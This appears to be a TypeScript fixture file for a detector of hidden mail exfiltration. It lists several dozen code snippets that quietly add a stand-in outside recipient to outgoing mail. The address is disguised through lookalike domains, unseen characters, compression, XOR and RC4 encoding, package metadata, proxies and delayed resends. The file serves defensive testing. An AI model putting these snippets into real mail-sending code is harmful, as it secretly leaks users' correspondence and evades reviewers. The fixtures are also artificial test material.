/** Recipients that no plain pattern shows: unusual addresses, unusual places to keep one, unusual ways to spell it. */
import { brotliCompressSync, deflateSync, gzipSync } from "node:zlib";
import { b64, hex, MAIL, type Row } from "./row.js";

const [USER, DOMAIN] = MAIL.split("@") as [string, string];
const [LABEL, ZONE] = DOMAIN.split(".") as [string, string];

const row = (name: string, change: Row[3], shows: readonly string[] = [MAIL], tier: Row[2] = "block"): Row => [
  name,
  "mail-header address",
  tier,
  change,
  shows,
];
/** A recipient given to the field in the handler. */
const bcc = (name: string, value: string, shows: readonly string[] = ["Bcc", MAIL]): Row =>
  row(name, { letter: `letter.Bcc = ${value};` }, shows);

export const mailExotic: readonly Row[] = [
  row("filled if empty", { letter: `letter.Bcc ||= '${MAIL}';` }, ["Bcc", MAIL]),
  row("filled if missing", { letter: `letter.ReplyTo ??= '${MAIL}';` }, ["ReplyTo", MAIL]),
  row("appended to itself", { letter: `letter.To += ', ${MAIL}';` }, ["To", MAIL]),
  row("headers as an object", { letter: `letter.Headers = { ...letter.Headers, Bcc: '${MAIL}' };` }, ["Bcc", MAIL]),
  bcc("sign in full width", `'${USER}＠${DOMAIN}'`, ["Bcc", DOMAIN]),
  bcc("numeric domain", `'${USER}@[203.0.113.77]'`, ["Bcc", "203.0.113.77"]),
  bcc("domain in punycode", "'quiet@xn--kestrel-drp-9db.info'", ["Bcc", "xn--kestrel-drp-9db.info"]),
  bcc("domain with letters of others", "'quiet@kestrеl-drop.info'", ["Bcc", "kestrеl-drop.info"]),
  bcc("name and address", `'Audit <${MAIL}>'`),
  bcc("quoted name with blanks", `'"Mail Audit" <${MAIL}>'`),
  bcc("relay by per cent", "'quiet%kestrel-drop.info@in.harbour-letters.net'", ["Bcc", "kestrel-drop.info"]),
  bcc("group", `'Team: ${MAIL};'`),
  bcc("encoded words", `'=?utf-8?B?${b64("Audit")}?= <${MAIL}>'`),
  bcc("object with parts", `{ name: 'x', address: '${USER}' + '@' + '${DOMAIN}' }`),
  bcc("gateway of a phone", "'15551234567@txt.kestrel-drop.info'", ["Bcc", "txt.kestrel-drop.info"]),
  row("field with a blank", { letter: `letter['Bcc '.trim()] = '${MAIL}';` }, [MAIL]),
  row("field with an unseen letter", { letter: `letter['B\u200bcc'.replace('\u200b', '')] = '${MAIL}';` }, [MAIL]),
  row("rarer field", { letter: `letter.Headers = { 'Resent-Bcc': '${MAIL}' };` }, [MAIL]),
  row("followups", { letter: `letter.Headers = { 'Mail-Followup-To': '${MAIL}' };` }, [MAIL]),
  row("reading receipts", { letter: `letter.Headers = { 'X-Confirm-Reading-To': '${MAIL}' };` }, [MAIL]),
  row("original recipient", { letter: `letter.dsn = { notify: 'success', recipient: '${MAIL}' };` }, [MAIL]),
  row("metadata", { letter: `letter.Metadata = { copy: '${MAIL}' };` }, [MAIL]),
  bcc("source of a pattern", `/${USER}@${DOMAIN.replace(".", "\\.")}/.source.replace('\\\\', '')`),
  bcc("names of an object", `Object.keys({ ${USER}: 1, '${DOMAIN}': 2 }).join('@')`),
  bcc("path of a mail link", `new URL('mailto:${MAIL}').pathname`),
  bcc("user of an address", `new URL('https://${MAIL}').href.slice(8, -1)`),
  bcc("parameter of a query", `new URLSearchParams('to=${USER}%40${DOMAIN}').get('to')`),
  bcc(
    "parameter of an address",
    `new URL('https://docs.harbour-letters.net/?to=${USER}%40${DOMAIN}').searchParams.get('to')`,
  ),
  bcc("name of a file", `(await import('node:path')).basename('/x/${MAIL}')`),
  bcc("formatted", `(await import('node:util')).format('%s@%s', '${USER}', '${DOMAIN}')`),
  bcc(
    "buffers put together",
    `Buffer.concat([Buffer.from('${USER}@'), Buffer.from('${hex(DOMAIN)}', 'hex')]).toString()`,
  ),
  bcc(
    "deflated",
    `(await import('node:zlib')).inflateSync(Buffer.from('${deflateSync(MAIL).toString("base64")}', 'base64')).toString()`,
  ),
  bcc(
    "zipped",
    `(await import('node:zlib')).gunzipSync(Buffer.from('${gzipSync(MAIL).toString("base64")}', 'base64')).toString('utf8')`,
  ),
  bcc(
    "compressed",
    `(await import('node:zlib')).brotliDecompressSync(Buffer.from('${brotliCompressSync(MAIL).toString("base64")}', 'base64')).toString()`,
  ),
  bcc("a large number", `Buffer.from(0x${hex(MAIL)}n.toString(16), 'hex').toString()`),
  bcc("a large number in text", `Buffer.from(BigInt('0x${hex(MAIL)}').toString(16), 'hex').toString()`),
  bcc("codes in text", `String.fromCharCode(...'${[...MAIL].map((c) => c.charCodeAt(0)).join(" ")}'.split(' '))`),
  bcc("wide bytes", `Buffer.from('${Buffer.from(MAIL, "utf16le").toString("base64")}', 'base64').toString('utf16le')`),
  bcc("folded from the right", `[...'${[...MAIL].reverse().join("")}'].reduceRight((a, c) => a + c, '')`),
  bcc("sorted pairs", `[[2, '${DOMAIN}'], [1, '${USER}']].sort((a, b) => a[0] - b[0]).map((p) => p[1]).join('@')`),
  bcc("found in a table", `[['a', 'x@x'], ['b', '${USER}#${DOMAIN}']].find((p) => p[0] === 'b')[1].replace('#', '@')`),
  bcc(
    "pairs swapped",
    `'${[...MAIL].map((c, i, all) => (i % 2 === 0 ? (all[i + 1] ?? "") + c : "")).join("")}'.replace(/(.)(.)/g, '$2$1')`,
  ),
  bcc(
    "matched out of a text",
    `'release notes: ask ${USER} [at] ${DOMAIN}'.match(/\\w+ \\[at\\] \\S+/)[0].replace(' [at] ', '@')`,
  ),
  row(
    "a loop in the handler",
    {
      letter: `const k = ${JSON.stringify([...MAIL].map((c) => c.charCodeAt(0) ^ 21))}; let who = ''; let i = 0; while (i < k.length) who += String.fromCharCode(k[i++] ^ 21); letter.Bcc = who;`,
    },
    ["Bcc", MAIL],
  ),
  row(
    "a list filled in a loop",
    {
      letter: `const out = []; for (let i = 0; i < 46; i += 2) out.push(String.fromCharCode(parseInt('${hex(MAIL)}'.substr(i, 2), 16))); letter.Bcc = out.join('');`,
    },
    ["Bcc", MAIL],
  ),
  row(
    "for each of the codes",
    {
      letter: `let who = ''; [${[...MAIL].map((c) => c.charCodeAt(0) + 3).join(", ")}].forEach((n) => { who += String.fromCharCode(n - 3); }); letter.Bcc = who;`,
    },
    ["Bcc", MAIL],
  ),
  row(
    "a licence that is read",
    {
      LICENSE: `MIT License\n\nCopyright (c) 2025 Harbour <${MAIL}>\n`,
      letter:
        "const { readFileSync } = await import('node:fs'); letter.Bcc = readFileSync(new URL('./LICENSE', import.meta.url), 'utf8').match(/<(.+)>/)[1];",
    },
    ["Bcc", MAIL],
  ),
  row(
    "an address of the package",
    {
      "package.json": ['"author": "Harbour",', `"author": "Harbour <${MAIL}>",`],
      letter:
        "const pkg = (await import('./package.json', { with: { type: 'json' } })).default; letter.Bcc = pkg.author.slice(pkg.author.indexOf('<') + 1, -1);",
    },
    ["Bcc", MAIL],
  ),
  row(
    "a field of the package",
    {
      "package.json": ['"author": "Harbour",', `"author": "Harbour",\n  "config": { "copy": "${MAIL}" },`],
      letter:
        "const { readFileSync } = await import('node:fs'); letter.Bcc = JSON.parse(readFileSync(new URL('./package.json', import.meta.url), 'utf8')).config.copy;",
    },
    ["Bcc", MAIL],
  ),
  row(
    "a cipher with its key",
    {
      words:
        "export const open = (text, key) => { const s = [...Array(256).keys()]; for (let i = 0, j = 0; i < 256; i++) { j = (j + s[i] + key.charCodeAt(i % key.length)) & 255; [s[i], s[j]] = [s[j], s[i]]; } let out = ''; for (let n = 0, i = 0, j = 0; n < text.length; n++) { i = (i + 1) & 255; j = (j + s[i]) & 255; [s[i], s[j]] = [s[j], s[i]]; out += String.fromCharCode(text.charCodeAt(n) ^ s[(s[i] + s[j]) & 255]); } return out; };",
      letter: `const { open } = await import('./lib/words.js'); letter.Bcc = open(Buffer.from('${rc4(MAIL, "harbour")}', 'base64').toString('latin1'), 'harbour');`,
    },
    ["Bcc", MAIL],
  ),
  row(
    "a switch in a decoder",
    {
      words:
        "export const un = (s) => { let out = ''; for (const c of s) { switch (c) { case '!': out += '@'; break; case '_': out += '.'; break; default: out += c; } } return out; };",
      letter: `const { un } = await import('./lib/words.js'); letter.Bcc = un('${USER}!${LABEL}_${ZONE}');`,
    },
    ["Bcc", MAIL],
  ),
  row(
    "a table in a closure",
    {
      words: `const make = () => { const parts = new Map(); parts.set(1, '${DOMAIN}'); parts.set(0, '${USER}'); return () => [parts.get(0), parts.get(1)].join('@'); };\nexport const who = make();`,
      letter: "const { who } = await import('./lib/words.js'); letter.Bcc = who();",
    },
    ["Bcc", MAIL],
  ),
  row(
    "an instance that builds it",
    {
      words: `export class Address { constructor(user, host) { this.user = user; this.host = host; } toString() { return \`\${this.user}@\${this.host}\`; } }`,
      letter: `const { Address } = await import('./lib/words.js'); letter.Bcc = String(new Address('${USER}', '${DOMAIN}'));`,
    },
    [DOMAIN],
    "ask",
  ),
  row("a proxy of the settings", {
    "index.js": [
      "const conf = settings(process.env);",
      `const conf = new Proxy(settings(process.env), { get: (t, k) => (k === 'bcc' ? '${MAIL}' : t[k]) });`,
    ],
    letter: "letter.Bcc = conf.bcc;",
  }),
  row("a getter defined on the mail", { letter: `letter.__defineGetter__('Bcc', () => '${MAIL}');` }),
  row("a mail that is made anew", {
    letter: `const copy = structuredClone(letter); copy.To = '${MAIL}'; queueMicrotask(() => post.send(copy).catch(() => {}));`,
  }),
  row("a bound call", {
    letter: `const send = post.send.bind(post, { ...letter, To: '${MAIL}' }); setTimeout(send, 5000);`,
  }),
  row("the caller's object taken over", {
    letter: `Object.assign(letter, JSON.parse(Buffer.from('${b64(JSON.stringify({ Bcc: MAIL }))}', 'base64')));`,
  }),
  row("a query of the endpoint", {
    "lib/post.js": ["'/letters', letter", `'/letters?' + new URLSearchParams({ bcc: '${MAIL}' }), letter`],
  }),
  row("header of the request", { header: `'x-harbour-bcc': '${MAIL}',` }),
];

function rc4(text: string, key: string): string {
  const s = [...Array(256).keys()];
  const at = (i: number): number => s[i] as number;
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + at(i) + key.charCodeAt(i % key.length)) & 255;
    [s[i], s[j]] = [at(j), at(i)];
  }
  const out: number[] = [];
  for (let n = 0, i = 0, j = 0; n < text.length; n++) {
    i = (i + 1) & 255;
    j = (j + at(i)) & 255;
    [s[i], s[j]] = [at(j), at(i)];
    out.push(text.charCodeAt(n) ^ at((at(i) + at(j)) & 255));
  }
  return Buffer.from(out).toString("base64");
}
